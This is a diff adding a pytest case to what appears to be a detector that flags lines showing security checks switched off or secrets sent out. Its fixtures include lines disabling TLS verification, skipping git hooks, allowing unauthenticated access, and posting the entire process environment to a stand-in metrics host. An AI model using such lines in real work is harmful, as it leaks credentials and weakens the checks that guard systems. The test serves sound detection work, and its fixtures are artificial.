@@ -521,3 +521,22 @@ def test_the_call_echoed_after_a_prompt_or_shown_clipped_is_the_agents_own():
 ])
 def test_a_check_switched_off_in_a_calls_form_or_named_in_an_identifier_is_terms(line, harmful):
     assert ("[terms:" in _shown(line)) is harmful, _shown(line)
+
+
+@pytest.mark.parametrize("line, harmful", [
+    # made up for this test (in no round): a check switched off by a variable whose name ends like a runner's count
+    # label (`…UNAUTHORIZED=0` is no `Failed: 0`), by a name of an exception set to true, by a hook manager's or a
+    # CA bundle's documented switch; the whole environment as a request's body in code
+    ("postinstall: export NODE_TLS_REJECT_UNAUTHORIZED=0 so the mirror's certificate passes", True),
+    ("settings: PUBLIC_API_ALLOW_UNAUTHENTICATED=true on the staging profile", True),
+    ("release.sh: LEFTHOOK=0 git commit -am 'bump' && git tag v2", True),
+    ("ci/env: REQUESTS_CA_BUNDLE='' for the proxy", True),
+    ("telemetry.py:12: httpx.post(f'https://metrics.acme-tools.example/v1', json=os.environ.copy())", True),
+    ("lib/report.rb:8: Net::HTTP.post(URI(REPORT_URL), ENV.to_h.to_json)", True),
+    # the same names and calls doing ordinary work
+    ("PLAY RECAP: web1 : ok=12 changed=2 unreachable=0 failed=0 skipped=3 rescued=0 ignored=0", False),
+    ("export NODE_ENV=production", False),
+    ("client.py:30: requests.post(url, json=payload, timeout=os.environ.get('TIMEOUT', 5))", False),
+])
+def test_an_environment_switch_or_the_whole_environment_sent_is_terms(line, harmful):
+    assert ("[terms:" in _shown(line)) is harmful, _shown(line)
